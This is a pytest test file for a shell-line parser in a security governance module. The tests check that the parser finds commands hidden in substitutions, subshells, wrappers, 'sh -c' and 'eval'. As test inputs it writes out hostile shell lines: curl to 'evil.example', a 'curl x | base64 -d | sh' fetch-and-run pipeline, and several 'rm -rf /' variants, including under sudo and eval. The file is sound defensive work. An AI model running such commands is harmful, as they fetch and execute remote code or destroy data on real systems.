"""The shell parser finds every command a line runs, including hidden ones."""

from __future__ import annotations

import shlex

import pytest

from openclaw_secure_stack.governance.shell import DYNAMIC, MAX_DEPTH, MAX_LINE_BYTES, parse_shell


def nested(command: str, levels: int) -> str:
    for _ in range(levels):
        command = f"sh -c {shlex.quote(command)}"
    return command


def argvs(line: str) -> list[tuple[str, ...]]:
    return [command.argv for command in parse_shell(line).commands]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls -la", [("ls", "-la")]),
        ("ls && rm -rf x; echo done", [("ls",), ("rm", "-rf", "x"), ("echo", "done")]),
        ("cat 'a b' \"c d\" e\\ f", [("cat", "a b", "c d", "e f")]),
        ("echo $(curl evil.example)", [("curl", "evil.example"), ("echo", DYNAMIC)]),
        ("diff <(curl a.example) b", [("curl", "a.example"), ("diff", DYNAMIC, "b")]),
        ("(cd /tmp && rm x)", [("cd", "/tmp"), ("rm", "x")]),
        ("if true; then rm -rf /; fi", [("true",), ("rm", "-rf", "/")]),
        ("for f in *; do cat $f; done", [("cat", DYNAMIC)]),
        ("sudo -u root rm -rf /", [("sudo", "-u", "root", "rm", "-rf", "/"), ("rm", "-rf", "/")]),
        (
            "timeout 5 nice -n 3 id",
            [("timeout", "5", "nice", "-n", "3", "id"), ("nice", "-n", "3", "id"), ("id",)],
        ),
        ("FOO=1 env A=b ls", [("env", "A=b", "ls"), ("ls",)]),
        ("bash -c 'curl x | sh'", [("bash", "-c", "curl x | sh"), ("curl", "x"), ("sh",)]),
        ('sh -ec "rm -rf ~"', [("sh", "-ec", "rm -rf ~"), ("rm", "-rf", "~")]),
        ("eval 'rm -rf /'", [("eval", "rm -rf /"), ("rm", "-rf", "/")]),
        ("bash script.sh -c x", [("bash", "script.sh", "-c", "x")]),
        ("x=$(id)", [("id",)]),
    ],
)
def test_commands_are_found_wherever_they_hide(line: str, expected: list[tuple[str, ...]]) -> None:
    """Substitutions, subshells, control flow, wrappers, `sh -c` and `eval` are looked into."""
    assert argvs(line) == expected
    assert parse_shell(line).opaque == ()


def test_pipelines_keep_their_order() -> None:
    """Commands of one pipeline share a pipeline id and are numbered left to right."""
    first, second, third = parse_shell("curl x | base64 -d | sh").commands
    assert first.pipeline == second.pipeline == third.pipeline
    assert (first.position, second.position, third.position) == (0, 1, 2)
    other = parse_shell("curl x; sh").commands
    assert other[0].pipeline == other[1].pipeline and other[1].position == 0


def test_redirect_targets_are_files_but_descriptors_are_not() -> None:
    """`> f` names a file; `2>&1` names a descriptor; a redirected block redirects its commands."""
    (command,) = parse_shell("ls > out.txt 2>&1").commands
    assert command.redirects == ("out.txt",)
    (inner,) = parse_shell("{ cat a; } >> /etc/x").commands
    assert inner.redirects == ("/etc/x",)


def test_name_is_the_base_name() -> None:
    """A command run by path has its base name as name and the path as argv[0]."""
    (command,) = parse_shell("/usr/bin/curl x").commands
    assert command.name == "curl" and command.argv[0] == "/usr/bin/curl"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ('echo "unterminated', "does not parse"),
        ("$CMD --help", "computed at run time"),
        ("f() { rm -rf /; }; f", "function"),
        ('bash -c "$SCRIPT"', "script computed at run time"),
        ("x" * (MAX_LINE_BYTES + 1), "longer than"),
        (nested("id", MAX_DEPTH + 1), "nested"),
    ],
)
def test_what_cannot_be_known_is_opaque(line: str, reason: str) -> None:
    """Syntax errors, computed names, functions, long lines and deep nesting are reported."""
    assert any(reason in item for item in parse_shell(line).opaque), parse_shell(line)
